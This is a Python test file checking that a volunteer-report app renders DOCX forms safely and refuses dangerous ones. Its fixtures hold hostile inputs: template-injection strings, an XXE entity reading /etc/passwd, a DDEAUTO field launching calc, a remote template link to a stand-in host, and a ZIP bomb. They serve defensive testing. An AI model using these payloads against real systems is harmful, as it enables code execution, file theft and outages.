"""An office's own DOCX forms: filled with named fields, or refused."""

from __future__ import annotations

import io
import re
from dataclasses import replace

import pytest
from docx import Document

from flask_volunteer_reports.errors import FormFaulty
from flask_volunteer_reports.rendering import sandbox
from flask_volunteer_reports.rendering.docx_form import render_docx_form
from flask_volunteer_reports.rendering.docx_starter import docx_starter
from flask_volunteer_reports.rendering.form_trial import try_form
from tests.office_forms import docx, part, repacked
from tests.rendering.sheets import PHOTOS, SHEET, table

PLAIN = docx("{{ organization_name }}")


def filled(template: bytes, facts=SHEET):
    """The document that comes of it."""
    file = render_docx_form(template, facts, PHOTOS, filename="a.docx")
    return Document(io.BytesIO(file.content))


def fault(template: bytes, facts=SHEET):
    """What speaks against a form."""
    with pytest.raises(FormFaulty) as refused:
        render_docx_form(template, facts, PHOTOS, filename="a.docx")
    return refused.value.faults[0]


def texts(document) -> list[str]:
    """The texts of its cells, a merged one once."""
    return [cell.text for table in document.tables for row in table.rows for cell in row.cells]


def test_the_starting_point_holds_every_fact_and_both_photos():
    document = filled(docx_starter("annex1.docx"))

    cells = texts(document)
    assert "惠州市图书馆学雷锋志愿服务队" in cells
    assert "2012年3月5日" in cells
    assert "2017年7月5日 周三\n9:00—11:30" in cells
    assert cells[cells.index("是否记录时长") + 1] == "是"
    assert cells[cells.index("项目是否发布") + 1] == "否"
    assert len(document.inline_shapes) == 2
    landscape, portrait = document.inline_shapes
    assert round(landscape.width / landscape.height, 2) == 1.33
    assert round(portrait.width / portrait.height, 2) == 0.75
    assert landscape.width.mm <= 60.1
    assert portrait.height.mm <= 76.1


def test_the_rows_of_annex_2_are_repeated_blank_ones_too():
    document = filled(docx_starter("annex2.docx"), table(3, 2))
    rows = [[cell.text for cell in row.cells] for row in document.tables[0].rows]
    assert len(rows) == 1 + 8 + 9
    assert rows[1][:2] == ["区直单位", "区直志愿服务队1"]
    assert rows[1][4] == "12"
    assert rows[-1] == ["各街道", "", "\n", "", ""]


def test_the_same_facts_give_the_same_bytes():
    template = docx_starter("annex1.docx")
    first = render_docx_form(template, SHEET, PHOTOS, filename="a.docx")
    assert render_docx_form(template, SHEET, PHOTOS, filename="a.docx") == first


def test_what_people_wrote_stays_text():
    name = "甲<w:p/>&{{ 7*7 }}\x07王𠮷䶮\ufffe"
    document = filled(PLAIN, replace(SHEET, organization_name=name))
    assert document.paragraphs[0].text == "甲<w:p/>&{{ 7*7 }}王𠮷䶮"


@pytest.mark.parametrize(
    ("field", "said"),
    [
        pytest.param("{{ organisation_name }}", "no “organisation_name”", id="unknown field"),
        pytest.param("{{ summary | safe }}", "no filter “safe”", id="unescaped"),
        pytest.param("{{ photo_1.tpl }}", "may not use “tpl”", id="inside a photo"),
        pytest.param("{{ summary.__class__ }}", "may not use “__class__”", id="inside Python"),
        pytest.param("{% if summary %}", "“if” is opened", id="not closed"),
        pytest.param("{% include 'x' %}", "no template|cannot be worked out", id="another file"),
        pytest.param("{{ 'x' * 999999999 }}", "very long", id="huge"),
    ],
)
def test_a_mistake_is_shown_with_its_paragraph(field, said):

    found = fault(docx("填表时间", f"名称：{field}", "完"))
    assert (found.template, found.line) == ("annex1.docx", 2)
    assert field in found.excerpt
    assert re.search(said, str(found.message)), found.message


def test_a_loop_without_end_is_stopped(monkeypatch):
    monkeypatch.setattr("flask_volunteer_reports.rendering.docx_form.MOST_SECONDS", 0.3)
    loop = "{% for a in range(1000) %}" * 4 + "{% endfor %}" * 4
    assert "no end" in str(fault(docx("x", loop)).message)
    assert sandbox.MOST_SECONDS > 1


LINKED = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://192.0.2.1/x.dotm" TargetMode="External"/>'
    "</Relationships>"
)
DOCUMENT = part(PLAIN, "word/document.xml")
REFUSED = {
    "no document at all": (b"hello", "not a Word document"),
    "a PDF": (b"%PDF-1.7", "not a Word document"),
    "a ZIP of something else": (
        repacked(PLAIN, **{"word__document.xml": None}),
        "not a Word document",
    ),
    "macros": (repacked(PLAIN, **{"word__vbaProject.bin": b"x"}), "macros"),
    "a document for macros": (
        repacked(
            PLAIN,
            **{
                "[Content_Types].xml": part(PLAIN, "[Content_Types].xml")
                .replace("wordprocessingml.document.main", "document.macroEnabled.main")
                .encode()
            },
        ),
        "without macros",
    ),
    "an embedded object": (repacked(PLAIN, **{"word__embeddings__a.bin": b"x"}), "embedded"),
    "a template from the network": (
        repacked(PLAIN, **{"word___rels__settings.xml.rels": LINKED.encode()}),
        "outside of it",
    ),
    "a field that runs something": (
        repacked(
            PLAIN,
            **{
                "word__document.xml": DOCUMENT.replace(
                    "<w:t>", '<w:instrText>DDEAUTO c:\\\\x "calc"</w:instrText><w:t>'
                ).encode()
            },
        ),
        "“DDEAUTO”",
    ),
    "entities": (
        repacked(
            PLAIN,
            **{
                "word__document.xml": (
                    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + DOCUMENT
                ).encode()
            },
        ),
        "word processor",
    ),
    "a ZIP bomb": (repacked(PLAIN, **{"word__media__a.bin": b"\0" * 31_000_000}), "too large"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_is_no_plain_document_is_refused_before_anything_opens_it(case):
    content, said = REFUSED[case]
    found = fault(content)
    assert said in str(found.message)
    assert found.line is None


def test_the_trial_fills_it_with_the_longest_texts_too(layout):
    file = try_form("annex1.docx", {}, docx_starter("annex1.docx"), layout, filename="p.docx")
    assert "惠州市图书馆学雷锋志愿服务队" in texts(Document(io.BytesIO(file.content)))
    wrong = docx("{{ 1 // (1286 - volunteer_count) }}")
    with pytest.raises(FormFaulty, match="divides by zero"):
        try_form("annex1.docx", {}, wrong, layout, filename="p.docx")
